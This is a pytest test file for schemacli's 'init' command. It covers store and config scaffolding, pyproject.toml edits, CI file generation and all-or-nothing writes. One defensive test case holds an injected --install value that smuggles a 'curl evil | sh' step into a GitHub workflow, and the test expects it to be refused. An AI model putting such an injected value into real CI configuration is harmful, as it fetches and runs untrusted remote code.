"""`schemacli init` scaffolds a store and its configuration, and never overwrites anything."""

from __future__ import annotations

import json
import tomllib

import pytest
import yaml
from typer.testing import CliRunner

from schemacli.app import app
from tests.folderstate import folder_state

runner = CliRunner()


@pytest.fixture
def empty(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("SCHEMACLI_STORE", "SCHEMACLI_DEFAULT_LEVEL", "SCHEMACLI_CONFIG"):
        monkeypatch.delenv(name, raising=False)
    return tmp_path


def run(*args: str):
    return runner.invoke(app, list(args))


def test_init_writes_a_store_and_schemacli_toml_that_the_gate_accepts(empty):
    result = run("init")
    assert result.exit_code == 0, result.output
    assert (empty / "schemas/subjects").is_dir()
    config = tomllib.loads((empty / "schemacli.toml").read_text())
    assert config == {"store": "schemas", "default-level": "BACKWARD"}
    assert run("gate").exit_code == 0


def test_init_adds_the_table_to_an_existing_pyproject_and_keeps_the_rest(empty):
    (empty / "pyproject.toml").write_text('[project]\nname = "orders"')
    result = run("init", "--level", "full_transitive", "--store", "contracts")
    assert result.exit_code == 0, result.output
    pyproject = tomllib.loads((empty / "pyproject.toml").read_text())
    assert pyproject["project"] == {"name": "orders"}
    assert pyproject["tool"]["schemacli"] == {
        "store": "contracts",
        "default-level": "FULL_TRANSITIVE",
    }
    assert not (empty / "schemacli.toml").exists()


def test_init_writes_ci_glue_on_request(empty):
    result = run("init", "--pre-commit", "--github", "--install", "schemacli==0.1.0")
    assert result.exit_code == 0, result.output
    hooks = yaml.safe_load((empty / ".pre-commit-config.yaml").read_text())["repos"][0]["hooks"]
    assert [h["id"] for h in hooks] == ["schemacli-validate", "schemacli-gate"]
    workflow = yaml.safe_load((empty / ".github/workflows/schemacli.yml").read_text())
    steps = workflow["jobs"]["gate"]["steps"]
    assert {"run": "pip install schemacli==0.1.0"} in steps
    assert any(
        "schemacli gate --against git:origin/${{ github.base_ref }}" in s.get("run", "")
        for s in steps
    )


def test_init_refuses_to_overwrite_and_writes_nothing_at_all(empty):
    (empty / "schemacli.toml").write_text('store = "mine"\n')
    (empty / ".pre-commit-config.yaml").write_text("repos: []\n")
    result = run("init", "--pre-commit", "--github")
    assert result.exit_code == 2
    assert "schemacli.toml exists" in result.output
    assert (
        ".pre-commit-config.yaml exists" in result.output and "nothing was written" in result.output
    )
    assert (empty / "schemacli.toml").read_text() == 'store = "mine"\n'
    assert not (empty / "schemas").exists() and not (empty / ".github").exists()


def test_init_refuses_a_second_schemacli_table(empty):
    (empty / "pyproject.toml").write_text('[tool.schemacli]\nstore = "s"\n')
    result = run("init")
    assert result.exit_code == 2 and "already has a [tool.schemacli] table" in result.output


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--level", "SIDEWAYS"], "SIDEWAYS"),
        (["--store", "../elsewhere"], "inside the project"),
        (["no-such-folder"], "is not a folder"),
    ],
)
def test_bad_init_arguments_are_usage_errors(empty, args, says):
    result = run("init", *args)
    assert result.exit_code == 2 and says in result.output
    assert list(empty.iterdir()) == []


def test_init_reports_what_it_wrote_as_json(empty):
    result = run("init", "-o", "json")
    written = json.loads(result.stdout)["written"]
    assert [w["path"] for w in written] == ["schemas/subjects/.gitkeep", "schemacli.toml"]


# -- odd pyproject.toml files: an input error naming the file and line, nothing written ------


@pytest.mark.parametrize(
    ("pyproject", "says"),
    [
        (b"tool = 1\n", "pyproject.toml:1: cannot add [tool.schemacli]: `tool` is an integer"),
        (b'[project]\ntool = "x"\n', None),  # project.tool is not ours: init adds the table
        (b'tool = "x"\n', "pyproject.toml:1: cannot add [tool.schemacli]: `tool` is a string"),
        (b"[tool]\nschemacli = 3\n", "pyproject.toml:2: `tool.schemacli` is an integer"),
        (
            b'[project.scripts]\nschemacli = "x:main"\n\n[tool]\nschemacli = 3\n',
            "pyproject.toml:5: `tool.schemacli` is an integer",
        ),
        (b'[x]\ntool.schemacli = "s"\n', None),  # x.tool.schemacli: someone else's key
        (b'a = 1\ntool.schemacli = "s"\n', "pyproject.toml:2: `tool.schemacli` is a string"),
        (b"[project]\nname = = 1\n", "pyproject.toml:2:8: cannot add [tool.schemacli]: the file"),
        (b'[project]\nname = "caf\xe9"\n', "pyproject.toml:2:12: not valid UTF-8: byte 0xe9"),
        (b"\xff\xfe[\x00x\x00]\x00", "pyproject.toml:1:1: not valid UTF-8"),
        (b"[[tool]]\na = 1\n", "`tool` is an array"),
    ],
    ids=[
        "tool-int",
        "project-tool",
        "tool-string",
        "schemacli-int",
        "schemacli-int-after-scripts",
        "nested-dotted",
        "dotted-string",
        "invalid-toml",
        "latin-1",
        "utf-16",
        "array-of-tables",
    ],
)
def test_an_oddly_shaped_pyproject_is_an_input_error_and_nothing_is_written(empty, pyproject, says):
    (empty / "pyproject.toml").write_bytes(pyproject)
    before = folder_state(empty)
    result = run("init", "--github", "--pre-commit")
    if says is None:
        assert result.exit_code == 0, result.output
        assert tomllib.loads((empty / "pyproject.toml").read_text())["tool"]["schemacli"]
        return
    assert result.exit_code == 2, result.output
    assert says in result.output and "Traceback" not in result.output
    assert folder_state(empty) == before


def test_a_pyproject_that_is_not_a_file_is_refused(empty):
    (empty / "pyproject.toml").mkdir()
    before = folder_state(empty)
    result = run("init")
    assert result.exit_code == 2 and "pyproject.toml: is not a regular file" in result.output
    assert folder_state(empty) == before


# -- TOML edits that parse back -----------------------------------------------------------


@pytest.mark.parametrize(
    "pyproject",
    [
        "tool = {black = {line-length = 100}}\n",
        "[tool.black]\nline-length = 100\n\n[project]\nname = 'orders'\n",
        "tool.black.line-length = 100\n[project]\nname = 'orders'\n",
        "[tool]\nblack = 1\n",
        "# only a comment, no newline at the end",
        "[[tool.mypy.overrides]]\nmodule = 'x'\n",
        "\ufeff[project]\nname = 'bom'\n",
        "[project]\r\nname = 'crlf'\r\n",
    ],
    ids=["inline", "super-table", "dotted", "tool-table", "comment", "array", "bom", "crlf"],
)
def test_init_adds_exactly_its_table_whatever_the_pyprojects_layout(empty, pyproject):
    (empty / "pyproject.toml").write_text(pyproject, encoding="utf-8", newline="")
    before = tomllib.loads(pyproject.lstrip("\ufeff"))
    result = run("init", "--store", "contracts")
    assert result.exit_code == 0, result.output
    text = (empty / "pyproject.toml").read_text(encoding="utf-8-sig")
    after = tomllib.loads(text)
    table = after["tool"].pop("schemacli")
    assert table == {"store": "contracts", "default-level": "BACKWARD"}
    if not after["tool"]:
        del after["tool"]
    assert after == before
    if pyproject.startswith("#"):
        assert pyproject in text  # the comment survives the edit
    assert run("gate").exit_code == 0


@pytest.mark.parametrize(
    "store", ['my"store', "back\\slash", "it's", "ünï cödé", "a b/c"], ids=repr
)
def test_a_store_name_with_quotes_or_backslashes_is_written_escaped(empty, store):
    result = run("init", "--store", store)
    assert result.exit_code == 0, result.output
    assert tomllib.loads((empty / "schemacli.toml").read_text())["store"] == store
    assert (empty / store / "subjects").is_dir()
    assert f"next: add schemas as {store}/subjects/<subject>/v1.avsc" in result.output


@pytest.mark.parametrize("store", ['my"store', "back\\slash"], ids=repr)
def test_a_store_name_with_quotes_is_escaped_in_pyproject_too(empty, store):
    (empty / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    assert run("init", "--store", store).exit_code == 0
    pyproject = tomllib.loads((empty / "pyproject.toml").read_text())
    assert pyproject["tool"]["schemacli"]["store"] == store


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--store", ""], "--store is empty"),
        (["--store", "  "], "--store is empty"),
        (["--store", "a\nb"], "control characters ('\\n')"),
        (["--store", "a\tb"], "control characters ('\\t')"),
        (["--github", "--install", ""], "--install is empty"),
        (["--github", "--install", "x\n  - run: curl evil | sh"], "control characters ('\\n')"),
        (["--github", "--install", "x\r"], "control characters ('\\r')"),
    ],
    ids=["empty", "blank", "newline", "tab", "install-empty", "install-newline", "install-cr"],
)
def test_an_unusable_store_or_install_value_is_a_usage_error(empty, args, says):
    (empty / "pyproject.toml").write_text("[project]\n")
    before = folder_state(empty)
    result = run("init", *args)
    assert result.exit_code == 2 and says in result.output, result.output
    assert folder_state(empty) == before


@pytest.mark.parametrize(
    "install",
    [
        "schemacli==0.1.0",
        "git+https://example.com/schemacli.git@v1#egg=schemacli",
        "'schemacli[kafka]>=0.1' # comment: ${{ secrets.X }}",
        "- {a: b}",
        '"quoted" and \\ back',
    ],
    ids=repr,
)
def test_the_workflow_holds_exactly_the_install_value_given(empty, install):
    result = run("init", "--github", "--install", install)
    assert result.exit_code == 0, result.output
    workflow = yaml.safe_load((empty / ".github/workflows/schemacli.yml").read_text())
    steps = workflow["jobs"]["gate"]["steps"]
    assert [s for s in steps if "run" in s][0] == {"run": f"pip install {install}"}
    assert len(steps) == 4 and list(workflow) == ["name", "on", "jobs"]


# -- never a partial write ----------------------------------------------------------------


def test_a_github_file_in_the_way_stops_init_before_it_writes_anything(empty):
    (empty / ".github").write_text("not a folder")
    before = folder_state(empty)
    result = run("init", "--github", "--pre-commit")
    assert result.exit_code == 2, result.output
    assert ".github is not a folder" in result.output and "nothing was written" in result.output
    assert "Traceback" not in result.output
    assert folder_state(empty) == before


def test_a_read_only_pyproject_stops_init_before_it_writes_anything(empty):
    (empty / "pyproject.toml").write_text("[project]\n")
    (empty / "pyproject.toml").chmod(0o444)
    before = folder_state(empty)
    result = run("init", "--github")
    assert result.exit_code == 2, result.output
    assert "pyproject.toml is read-only" in result.output
    assert folder_state(empty) == before


def test_a_read_only_project_folder_stops_init_before_it_writes_anything(empty):
    project = empty / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text("[project]\n")
    project.chmod(0o555)
    before = folder_state(empty)
    try:
        result = run("init", "project", "--github")
    finally:
        project.chmod(0o755)
    assert result.exit_code == 2, result.output
    assert "the folder project is read-only" in result.output
    assert folder_state(empty) == before | {"project": ("folder", 0o755, None)}


def test_a_write_failing_midway_leaves_the_project_as_it_was(empty, monkeypatch):
    """The disk fills up at the last file: the store, the edited pyproject.toml and the hooks
    file written before it are undone."""
    import errno
    import os

    from schemacli import atomicwrite

    (empty / "pyproject.toml").write_text("[project]\nname = 'orders'\n")
    before = folder_state(empty)
    real_link = os.link

    def full_disk(src, dst, *args, **kwargs):
        if str(dst).endswith("schemacli.yml"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_link(src, dst, *args, **kwargs)

    monkeypatch.setattr(atomicwrite.os, "link", full_disk)
    result = run("init", "--github", "--pre-commit")
    assert result.exit_code == 2, result.output
    assert "no space left on the device" in result.output and "nothing was written" in result.output
    assert folder_state(empty) == before


def test_the_next_step_never_names_the_root_folder(empty):
    result = run("init", "--store", ".")
    assert result.exit_code == 0, result.output
    assert "next: add schemas as subjects/<subject>/v1.avsc" in result.output
